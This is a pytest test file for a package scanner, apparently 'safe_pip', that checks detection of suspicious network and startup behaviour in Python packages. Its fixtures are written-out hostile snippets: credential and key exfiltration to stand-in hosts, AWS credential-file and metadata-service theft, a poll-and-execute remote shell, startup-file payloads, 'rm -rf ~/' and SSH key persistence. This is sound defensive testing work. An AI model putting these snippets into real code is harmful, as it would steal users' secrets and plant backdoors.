"""Network: how a call gets its address, what it hands over, and who it says it is."""

from __future__ import annotations

import base64
import textwrap

import pytest

from safe_pip.extractors.code import observe_unit
from safe_pip.extractors.startup_files import carries_program
from safe_pip.extractors.unit import python_units
from tests.sources import code_evidence, distribution_of, features, places

_HIDDEN = base64.b64encode(b"https://callback.example.co/drop").decode()


def _seen(source: str, path: str = "demo/client.py") -> set[str]:
    return features(code_evidence({path: source}))


@pytest.mark.parametrize(
    "source",
    [
        f"import base64, requests\nrequests.get(base64.b64decode('{_HIDDEN}').decode())\n",
        "import base64, requests\ndef f(x):\n  requests.post(base64.b64decode(x).decode(), json={})",
        "from urllib.request import urlopen\nfrom zlib import decompress\n"
        "def f(data):\n    return urlopen(decompress(data).decode()).read()\n",
    ],
)
def test_an_address_that_is_decoded_first_is_seen(source: str) -> None:
    assert "net_hidden_address" in _seen(source)


@pytest.mark.parametrize(
    "source",
    [
        "import base64, requests\n"
        "def f(x):\n    requests.post('https://api.example.co', data=base64.b64decode(x))\n",
        "import base64, requests\n"
        "def f(x):\n    requests.get(f'https://api.example.co/{base64.b64decode(x)}')\n",
        "import requests\ndef f(url):\n    return requests.get(url)\n",
    ],
)
def test_data_that_is_decoded_does_not_hide_the_address(source: str) -> None:
    assert "net_hidden_address" not in _seen(source)


def test_an_address_that_another_one_answers_is_seen_where_it_is_used() -> None:
    source = """\
        import requests
        def send(text):
            where = requests.get("https://drop.example.co/where").text.strip()
            requests.post(where, json={"t": text})
        """
    assert places(code_evidence({"demo/a.py": source}), "net_fetched_address") == {("demo/a.py", 4)}


def test_a_link_in_an_answer_is_followed_by_honest_clients() -> None:
    source = """\
        import requests
        def pages(url):
            while url:
                answer = requests.get(url).json()
                yield answer
                url = answer["next"]
        """
    assert "net_fetched_address" not in _seen(source)


def test_sending_counts_apart_from_fetching() -> None:
    fetching = "import requests\ndef f():\n    return requests.get('https://some.example.co')\n"
    sending = "import requests\ndef f(x):\n    requests.post('https://some.example.co', json=x)\n"
    assert "net_sends_unnamed" not in _seen(fetching)
    assert "net_sends_unnamed" in _seen(sending)


def test_a_host_that_anyone_can_use_counts_where_code_goes_there() -> None:
    source = "import requests\ndef f():\n    requests.get('https://pastebin.com/raw/abc')\n"
    assert "net_suspicious_host" in _seen(source)
    assert "net_suspicious_host" not in _seen("LINK = 'https://pastebin.com/raw/abc'\n")


@pytest.mark.parametrize(
    ("source", "carries"),
    [
        ("s.login('me@mail.example', 'abcd efgh')", True),
        ("s.login(user, password)", False),
        ("s.login(os.environ['USER'], os.environ['PASS'])", False),
    ],
)
def test_a_login_is_fixed_if_name_and_password_are_written_out(source: str, carries: bool) -> None:
    code = (
        "import os, smtplib\ndef f(user, password):\n"
        f"    s = smtplib.SMTP('smtp.example.co', 587)\n    {source}\n"
    )
    assert ("fixed_login" in _seen(code)) is carries


def test_what_a_start_up_file_imports_acts_at_every_start() -> None:
    evidence = code_evidence(
        {
            "demo_init.pth": "import _demo_boot\n",
            "_demo_boot.py": "import os\nos.system('echo look-alike')\n",
            "demo/__init__.py": "",
        }
    )
    assert places(evidence, "startup_acts") == {("_demo_boot.py", 2)}


@pytest.mark.parametrize(
    ("line", "feature"),
    [
        ("import os;exec('os.system(chr(105)*2)')", "startup_spawns"),
        ("import urllib.request as u;u.urlopen('https://drop.example.co/in')", "startup_talks"),
    ],
)
def test_what_a_start_up_line_reaches_for_is_seen(line: str, feature: str) -> None:
    assert feature in _seen(line + "\n", "demo.pth")


@pytest.mark.parametrize("folder", ["docs", "scripts", "examples"])
def test_what_a_setup_script_imports_from_a_side_folder_is_read(folder: str) -> None:
    evidence = code_evidence(
        {
            "setup.py": f"from {folder}.x import y\nfrom setuptools import setup\nsetup()\n",
            f"{folder}/x.py": "import os\nos.system('echo look-alike')\n",
            "demo/__init__.py": "",
        }
    )
    assert places(evidence, "proc_spawn_unasked") == {(f"{folder}/x.py", 2)}


@pytest.mark.parametrize(
    ("described", "is_announced"),
    [
        ("a client for the weather service", True),
        ("pretty colours\nhttps://home.example\nprogramming language :: python", False),
        ("pretty colours\ntopic :: internet", True),
    ],
)
def test_a_capability_is_announced_by_the_words_of_the_description(
    described: str,
    is_announced: bool,
) -> None:
    source = "import requests\ndef f(url):\n    return requests.get(url)\n"
    (unit,) = python_units(distribution_of({"demo/a.py": source}))
    seen = features(list(observe_unit(unit, described=described)))
    assert "net_out" in seen
    assert ("net_out_unannounced" not in seen) is is_announced


def test_what_a_patched_function_of_another_package_sees_and_sends_is_a_theft() -> None:
    source = """\
        import requests
        from keys_like.pair import Pair
        _original = Pair.from_seed
        def _from_seed(seed, *rest):
            pair = _original(seed, *rest)
            requests.post("https://collect.example.co/k", json={"p": str(pair)})
            return pair
        Pair.from_seed = _from_seed
        """
    evidence = code_evidence({"demo/__init__.py": source})
    assert places(evidence, "chain_handed_key_net_unasked") == {("demo/__init__.py", 6)}


def test_a_class_of_its_own_may_be_patched() -> None:
    source = """\
        import requests
        from demo.pair import Pair
        def _from_text(text):
            requests.post("https://api.example.co/k", json={"p": text})
        Pair.from_text = _from_text
        """
    evidence = code_evidence({"demo/__init__.py": source, "demo/pair.py": "class Pair: pass\n"})
    assert "chain_handed_key_net" not in features(evidence)


def test_talking_in_silence_is_told_apart() -> None:
    source = """\
        import requests
        def f(x):
            try:
                requests.get("https://collect.example.co/k")
            except Exception:
                pass
        """
    assert "net_silent" in _seen(textwrap.dedent(source))


@pytest.mark.parametrize(
    ("line", "carries"),
    [
        (f"import base64;exec(base64.b64decode('{_HIDDEN}'))", True),
        ("import sys;exec(bytes.fromhex('7072696e74').decode())", True),
        (f"import os;exec({'print(1);' * 80!r})", True),
        ("import os, urllib.request as r;exec(r.urlopen('https://x.example.co').read())", True),
        ("import demo.boot", False),
        ("import os; os.environ.get('DEMO') and __import__('demo').start()", False),
        ("import sys; exec('try: import demo\\nexcept ImportError: pass')", False),
    ],
)
def test_a_start_up_line_that_carries_a_program_is_no_ordinary_one(
    line: str, carries: bool
) -> None:
    assert carries_program(line) is carries


def test_keys_that_go_to_an_unnamed_host_are_told_from_logins_of_a_client() -> None:
    source = """\
        import requests
        class Client:
            def __init__(self, access_key_id, access_key_secret):
                self.access_key_id = access_key_id
                self.access_key_secret = access_key_secret
            def sign(self):
                requests.post("https://sdk.example.co/a", json={"k": self.access_key_secret})
            def ask(self, token):
                return requests.get("https://api.example.co", headers={"Authorization": token})
        """
    found = [e for e in code_evidence({"demo/a.py": source}) if e.feature == "net_sends_key"]
    assert {(e.location.line, e.value) for e in found} == {(7, 1.0), (9, 0.5)}


_STRANGER = "https://collect.example-host.dev/k"


@pytest.mark.parametrize(
    "body",
    [
        "def f(token=None): requests.post(S, json={'k': token})",
        "def f(api_key: str = ''): requests.get(f'{S}?k={api_key}')",
        "def f(*, client_secret): requests.post(S, headers={'x': client_secret})",
        "def f(*, password=None): requests.post(S, data=json.dumps([password]))",
        "def f(config): requests.post(S, json=config['api_key'])",
        "def f(config): requests.post(S, json=dict(a=config.get('private_key')))",
        "def f(**rest): requests.post(S, json=rest['private_key'])",
        "def f(token, _post=requests.post): _post(S, json=[token])",
        "def f(secret): urllib.request.urlopen(urllib.request.Request(S, secret.encode()))",
        "def f(secret): threading.Thread(target=requests.post, args=(S, {'d': secret})).start()",
        "def f(account): requests.post(S, data={'k': account.private_key.hex()})",
        "def f(): requests.post(S, json=getpass.getpass())",
        "def f(): requests.post(S, json=input('Your API token? '))",
        "def f(): requests.post(S, json=argparse.ArgumentParser().parse_args().token)",
        "def f(token): os.system('curl ' + S + ' -d ' + token)",
    ],
)
def test_keys_and_logins_that_go_to_a_stranger(body: str) -> None:
    imports = "import argparse, getpass, json, os, requests, threading, urllib.request"
    assert "key_to_stranger" in _seen(f"{imports}\nS = {_STRANGER!r}\n{body}\n")


@pytest.mark.parametrize(
    "body",
    [
        "def f(max_tokens=3): requests.post(S, json={'k': max_tokens})",
        "def f(): requests.post(S, json=input())",
        "def f(): requests.post(S, json=input('Your name? '))",
        "def f(pad_token): requests.post(S, json=pad_token)",
        "def f(token): requests.post('https://api.github.com/', json=token)",
        "def f(token): hashlib.sha256(token); requests.post(S, json=len(token))",
    ],
)
def test_what_is_no_key_or_goes_to_no_stranger(body: str) -> None:
    assert "key_to_stranger" not in _seen(f"import hashlib, requests\nS = {_STRANGER!r}\n{body}\n")


@pytest.mark.parametrize(
    ("command", "is_sent"), [("curl {}", False), ("curl -d @x {}", True), ("wget {}/a.sh", False)]
)
def test_a_command_talks_to_a_stranger_as_code_does(command: str, is_sent: bool) -> None:
    found = _seen(f"import os\nos.system({command.format(_STRANGER)!r})\n")
    assert {"net_unknown_host", "net_unknown_host_unasked", "net_unnamed_host"} <= found
    assert ("net_unknown_drop" in found) is is_sent


def test_a_client_made_for_an_address_sends_there() -> None:
    source = """\
        from solana.rpc.api import Client
        def pay(private_key):
            client = Client("https://api.example.co")
            client.send_transaction(memo(bytes(private_key)))
        """
    found = _seen(textwrap.dedent(source))
    assert {"chain_handed_key_net", "net_sends_key", "net_unnamed_host"} <= found


def test_a_wrapper_that_takes_the_place_of_what_it_wraps_is_read_with_its_callers_keys() -> None:
    source = """\
        import threading
        from eth_account import Account
        from web3 import Web3
        def _note(secret):
            Web3(Web3.HTTPProvider("https://rpc.example.co/")).eth.send_raw_transaction(secret)
        def wrap(function):
            def inner(self, *rest):
                account = function(self, *rest)
                threading.Thread(target=_note, args=(account.key,)).start()
                return account
            return inner
        Account.create = wrap(Account.create)
        """
    assert "chain_handed_key_net_unasked" in _seen(textwrap.dedent(source))


def test_a_parser_of_a_credential_store_holds_secrets() -> None:
    source = """\
        import configparser, os, requests
        def push():
            found = configparser.ConfigParser()
            found.read(os.path.join(os.path.expanduser("~"), ".aws/credentials"))
            sections = []
            for name in found.sections():
                sections.append({"key": found.get(name, "aws_secret_access_key")})
            requests.post("https://hook.example.co", json=sections)
        """
    assert "chain_secret_net" in _seen(textwrap.dedent(source))
    assert "chain_secret_net" not in _seen(textwrap.dedent(source).replace(".aws/cred", "my/sett"))


def test_keys_of_the_metadata_service_are_secrets() -> None:
    source = """\
        import requests
        def metrics():
            role = requests.get("http://169.254.169.254/latest/meta-data/iam/x").text
            requests.post("https://models.example.co", data=role)
        """
    assert "chain_secret_net" in _seen(textwrap.dedent(source))


def test_fetched_commands_that_are_answered_are_a_remote_shell() -> None:
    source = """\
        import requests, subprocess
        def poll():
            order = requests.get("https://c.example.co/next").json()
            out = subprocess.check_output(order["run"], shell=True)
            requests.post("https://c.example.co/out", json={"out": out.decode()})
        """
    assert "chain_socket_shell" in _seen(textwrap.dedent(source))


@pytest.mark.parametrize(
    ("source", "feature"),
    [
        ("import os\nos.system('curl -F a=@/tmp/x https://up.example.co')", "shell_upload"),
        ("import os\nos.system('shutdown /s /t 1')", "destroys"),
        ("import os\nos.system('rm -rf ~/')", "destroys"),
        ("import os\nos.execv('/proc/self/fd/%d' % fd, ['k'])", "memory_program"),
        ("import os\nfd = os.memfd_create('', 0)", "native_code"),
        ("import subprocess\nsubprocess.Popen(['python3', '-c', 'import x'])",
         "inline_code_unasked"),
        ("import subprocess, sys, base64\n"
         "subprocess.run([sys.executable, '-'], input=base64.b64decode(x))", "chain_decode_spawn"),
        ("import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('ssh-rsa A')",
         "persistence"),
    ],
)  # fmt: skip
def test_what_a_command_line_does_is_seen(source: str, feature: str) -> None:
    assert feature in _seen(source)


@pytest.mark.parametrize(
    "source",
    [
        "import os\nos.system('rm -rf ./build /tmp/demo')",
        "import os\nos.system('shutdown-hook --list')",
        "import os\nos.system('curl -O https://demo.example.co/x.tgz')",
        "import subprocess, sys\ndef f():\n    subprocess.run([sys.executable, '-c', 'print(1)'])",
        "import subprocess\nsubprocess.run(['sort'], input=base64.b64decode(x))",
    ],
)
def test_ordinary_command_lines_are_not_mistaken(source: str) -> None:
    telling = {"destroys", "shell_upload", "inline_code_unasked", "chain_decode_spawn"}
    assert not telling & _seen(source)


_LEAK = "import requests\ndef sign(secret_key, text):\n"


@pytest.mark.parametrize(
    ("source", "found"),
    [
        (
            f"{_LEAK}    requests.post('https://drop.zq-collect.site/k', json=secret_key)\n",
            {"leak_to_stranger"},
        ),
        (
            f"{_LEAK}    try:\n        requests.post('https://drop.zq-collect.site', json=secret_key)"
            "\n    except Exception:\n        pass\n",
            {"leak_to_stranger", "leak_in_silence"},
        ),
        (
            "import os, requests\n"
            "requests.post('https://api.github.com/x', json=dict(os.environ))\n",
            set(),
        ),
        (
            "import socket, ssl, getpass\ns = ssl.create_default_context().wrap_socket(socket.socket())"
            "\ns.connect(('drop.zq-collect.site', 443))\ns.send(str.encode(getpass.getuser()))\n",
            {"leak_to_stranger"},
        ),
        (
            "import base64\ntry:\n    exec(base64.b64decode(open('data.bin').read()))\n"
            "except Exception:\n    pass\n",
            {"payload_in_silence"},
        ),
        (
            f"{_LEAK}    requests.post('https://drop.zq-collect.site/k', json=text)\n",
            set(),
        ),
    ],
)
def test_where_a_leak_goes_and_whether_it_may_fail_aloud(source: str, found: set[str]) -> None:
    names = {"leak_to_stranger", "leak_in_silence", "payload_in_silence"}
    assert _seen(source) & names == found
